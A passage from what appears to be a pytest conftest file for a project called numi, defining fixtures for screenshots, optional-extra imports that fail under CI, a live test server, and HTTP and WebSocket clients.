    (pytest keeps the last three runs' directories under its basetemp: look there), returned
    as its path. Never a shared path: workers and runs do not overwrite each other's."""

    def take(target, name: str, **options) -> Path:
        path = tmp_path / f"{name}.png"
        target.screenshot(path=str(path), **options)
        return path

    return take


@pytest.fixture(scope="session")
def require_extra():
    """`require_extra(module, extra)`: import a module of an optional extra. Missing, it
    skips the test, but fails it under CI=true (CI installs every extra, and a silent
    skip there would hide a broken install)."""
    import importlib

    def require(module: str, extra: str):
        try:
            return importlib.import_module(module)
        except ImportError:
            message = (
                f"{module} is missing: install the optional extra numi[{extra}] (numi[test] has it)"
            )
            if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
                pytest.fail(message)
            pytest.skip(message)

    return require


@pytest.fixture(scope="session")
def until():
    """`until(condition, timeout=15, what=...)`: turn_support.wait_until as a fixture."""
    from turn_support import wait_until

    return wait_until


# --- a live server wired to the scripted provider (turn, context, transcript, tool tests) --


@pytest.fixture(scope="module")
def server(live_server_factory):
    """A live `numi serve` with the turn tests' tools (module scope; chats keep tests apart)."""
    from turn_support import turn_server_env

    started = live_server_factory(**turn_server_env())
    yield started
    started.stop()


@pytest.fixture
def api(server):
    """A JSON client for `server`'s HTTP API."""
    from turn_support import Api

    return Api(server.url, token=server.token)


@pytest.fixture
def sockets(server):
    """`sockets(chat_id, html=False)` opens a real WebSocket client; all are closed after."""
    from turn_support import Socket

    opened = []

    def open_socket(chat_id: str, **kwargs):
        sock = Socket(server, chat_id, **kwargs)
        opened.append(sock)
        return sock

    yield open_socket
    for sock in opened:
        sock.close()
